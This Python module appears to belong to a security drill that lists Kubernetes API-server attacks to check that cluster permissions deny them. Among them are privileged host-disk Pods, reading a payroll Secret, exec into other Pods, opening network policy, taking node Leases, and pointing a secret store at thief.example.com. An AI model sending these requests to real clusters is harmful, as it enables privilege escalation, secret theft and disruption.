"""Attacks on what runs in the cluster, through the API server: Pods, nodes, stores, the network and the rest."""

from collections.abc import Sequence
from typing import Final

from bulkhead_demo.drill.attacks.requests import (
    CORE,
    DRY,
    EXTERNAL,
    HERE,
    LABEL,
    TEAM,
    delete,
    get,
    made,
    patch,
    post,
)
from bulkhead_demo.drill.model import Attack

_APPS: Final = "/apis/apps/v1/namespaces/{ns}"
_LEASES: Final = "/apis/coordination.k8s.io/v1/namespaces"
_NODE_DISK: Final = {"name": "disk", "hostPath": {"path": "/"}}
_THIEF: Final = {
    "name": "thief",
    "image": "localhost/drill",
    "securityContext": {"privileged": True},
    "volumeMounts": [{"name": "disk", "mountPath": "/node"}],
}
_POD: Final = {"containers": [_THIEF], "volumes": [_NODE_DISK], "hostPID": True}
_READER: Final = {
    "containers": [{"name": "thief", "image": "localhost/drill", "envFrom": [{"secretRef": {"name": "payroll"}}]}]
}
_STATUS: Final = {
    "status": {"conditions": [{"type": "Ready", "status": "False", "reason": "Drill", "message": "drill"}]}
}
_FAKE_STORE: Final = {"provider": {"fake": {"data": [{"key": "drill", "value": "drill"}]}}}


def _upgrade(name: str, does: str, path: str) -> Attack:
    return Attack(id=f"api.{name}", does=does, act="api.upgrade", arguments={"server": "{api}", "path": path})


PODS: Final[Sequence[Attack]] = (
    get("list-pods", "list all Pods", path="/api/v1/pods"),
    get(
        "read-log",
        "read another process's log",
        path=f"{HERE}/pods/{{other_pod}}/log?tailLines=1&container={{other_container}}",
    ),
    _upgrade(
        "exec",
        "run a program in another process's container",
        f"{HERE}/pods/{{other_pod}}/exec?container={{other_container}}&command=/usr/bin/python3&command=-V&stdout=true",
    ),
    _upgrade(
        "attach",
        "attach to another process's container",
        f"{HERE}/pods/{{other_pod}}/attach?container={{other_container}}&stdout=true",
    ),
    _upgrade("port-forward", "forward a port of another Pod", f"{HERE}/pods/{{other_pod}}/portforward?ports=8082"),
    patch(
        "add-debugger",
        "add an ephemeral container to another Pod",
        path=f"{HERE}/pods/{{other_pod}}/ephemeralcontainers{DRY}",
        body={
            "spec": {
                "ephemeralContainers": [
                    {"name": "drill", "image": "localhost/drill", "targetContainerName": "{other_container}"}
                ]
            }
        },
        content_type="application/strategic-merge-patch+json",
    ),
    post(
        "make-pod",
        "start a privileged Pod with the node's disk",
        path=f"{HERE}/pods{DRY}",
        body=made("Pod", "drill", spec=_POD),
    ),
    post(
        "make-reader",
        "start a Pod of a team with its Secret",
        path=f"{TEAM}/pods{DRY}",
        body=made("Pod", "drill", spec=_READER),
    ),
    patch(
        "change-deployment",
        "mount the vault provider's credential elsewhere",
        path=f"{_APPS}/deployments/{{release}}-webhook{DRY}",
        body={
            "spec": {
                "template": {"spec": {"volumes": [{"name": "loot", "secret": {"secretName": "vault-credential"}}]}}
            }
        },
        content_type="application/strategic-merge-patch+json",
    ),
    post(
        "make-daemonset",
        "run on every node",
        path=f"{_APPS}/daemonsets{DRY}",
        body=made(
            "DaemonSet",
            "drill",
            api_version="apps/v1",
            spec={
                "selector": {"matchLabels": {"app": "drill"}},
                "template": {"metadata": {"labels": {"app": "drill"}}, "spec": _POD},
            },
        ),
    ),
    delete("delete-pod", "delete another process's Pod", path=f"{HERE}/pods/{{other_pod}}{DRY}"),
    post(
        "evict",
        "evict another process's Pod",
        path=f"{HERE}/pods/{{other_pod}}/eviction{DRY}",
        body=made("Eviction", "{other_pod}", api_version="policy/v1"),
    ),
    get("read-config-map", "read the vault provider's policy", path=f"{HERE}/configmaps/{{release}}-policy-vault"),
    patch(
        "change-config-map",
        "change the vault provider's policy",
        path=f"{HERE}/configmaps/{{release}}-policy-vault{DRY}",
        body={"data": {"policy.yaml": "hosts: []"}},
    ),
    patch(
        "ask-for-rotation",
        "ask for a new CA in a person's name",
        path=f"{HERE}/configmaps/{{release}}-certificate-requests{DRY}",
        body=LABEL,
    ),
)

CLUSTER: Final[Sequence[Attack]] = (
    get("read-node", "read the node", path=f"{CORE}/nodes/{{node}}"),
    get("node-proxy", "ask the kubelet through the API server (nodes/proxy)", path=f"{CORE}/nodes/{{node}}/proxy/pods"),
    patch("change-node", "change the node", path=f"{CORE}/nodes/{{node}}{DRY}", body=LABEL),
    get(
        "service-proxy",
        "reach the backend through the API server",
        path=f"{CORE}/namespaces/{{backends}}/services/https:openbao:8200/proxy/v1/sys/seal-status",
    ),
    get(
        "pod-proxy",
        "reach another Pod through the API server",
        path=f"{CORE}/namespaces/{{team}}/pods/stranger:8080/proxy/",
    ),
    post(
        "make-volume",
        "make a volume of the node's disk",
        path=f"{CORE}/persistentvolumes{DRY}",
        body=made(
            "PersistentVolume",
            "drill",
            spec={"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}},
        ),
    ),
    post(
        "redirect-service",
        "lead a Service to itself",
        path=f"/apis/discovery.k8s.io/v1/namespaces/{{backends}}/endpointslices{DRY}",
        body=made(
            "EndpointSlice",
            "drill",
            api_version="discovery.k8s.io/v1",
            addressType="IPv4",
            endpoints=[{"addresses": ["192.0.2.1"]}],
            ports=[{"port": 8200, "protocol": "TCP"}],
        ),
    ),
    post(
        "open-network",
        "allow every connection by a NetworkPolicy",
        path=f"/apis/networking.k8s.io/v1/namespaces/{{ns}}/networkpolicies{DRY}",
        body=made(
            "NetworkPolicy",
            "drill",
            api_version="networking.k8s.io/v1",
            spec={"podSelector": {}, "ingress": [{}], "egress": [{}], "policyTypes": ["Ingress", "Egress"]},
        ),
    ),
    patch(
        "weaken-namespace",
        "allow privileged Pods in its own namespace",
        path=f"{CORE}/namespaces/{{ns}}{DRY}",
        body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
    ),
    get("list-namespaces", "list the namespaces", path=f"{CORE}/namespaces", permitted="api list namespaces */*"),
    patch(
        "point-elsewhere",
        "point an ExternalSecret at another secret",
        path=f"{EXTERNAL}/namespaces/{{team}}/externalsecrets/{{external_secret}}{DRY}",
        body={"spec": {"refreshInterval": "2h"}},
    ),
    post(
        "make-external-secret",
        "make an ExternalSecret of its own",
        path=f"{EXTERNAL}/namespaces/{{team}}/externalsecrets{DRY}",
        body=made(
            "ExternalSecret",
            "drill",
            api_version="external-secrets.io/v1",
            spec={
                "secretStoreRef": {"name": "{store}"},
                "data": [{"secretKey": "a", "remoteRef": {"key": "hr/payroll"}}],
            },
        ),
    ),
    patch(
        "change-store",
        "change where a store leads",
        path=f"{EXTERNAL}/namespaces/{{team}}/secretstores/{{store}}{DRY}",
        body={"spec": {"provider": {"vault": {"server": "https://thief.example.com"}}}},
    ),
    post(
        "make-cluster-store",
        "make a store for all namespaces",
        path=f"{EXTERNAL}/clustersecretstores{DRY}",
        body=made("ClusterSecretStore", "drill", api_version="external-secrets.io/v1", spec=_FAKE_STORE),
    ),
    patch(
        "write-status",
        "write the status of a store, which is its work",
        path=f"{EXTERNAL}/namespaces/{{team}}/secretstores/{{store}}/status{DRY}",
        body=_STATUS,
        permitted="api patch secretstores.external-secrets.io/status */*",
    ),
    get("read-lease", "read the Lease by which the node lives", path=f"{_LEASES}/kube-node-lease/leases/{{node}}"),
    patch(
        "take-lease",
        "take the Lease by which the node lives",
        path=f"{_LEASES}/kube-node-lease/leases/{{node}}{DRY}",
        body={"spec": {"holderIdentity": "thief"}},
    ),
    get(
        "read-own-lease",
        "read the Lease by which controllers agree",
        path=f"{_LEASES}/{{ns}}/leases/{{release}}-controller",
        permitted="api get leases.coordination.k8s.io {ns}/{release}-controller",
    ),
    get("read-events", "read the events of a team", path=f"{TEAM}/events"),
    post(
        "make-event",
        "write an event, which is its work",
        path=f"{TEAM}/events{DRY}",
        body={
            **made("Event", "drill", reason="Drill", message="drill", type="Normal"),
            "metadata": {"name": "drill", "namespace": "{team}"},
            "involvedObject": {"kind": "SecretStore", "name": "{store}", "namespace": "{team}"},
        },
        permitted="api create events */*",
    ),
    get("read-metrics", "read the API server's metrics", path="/metrics"),
)
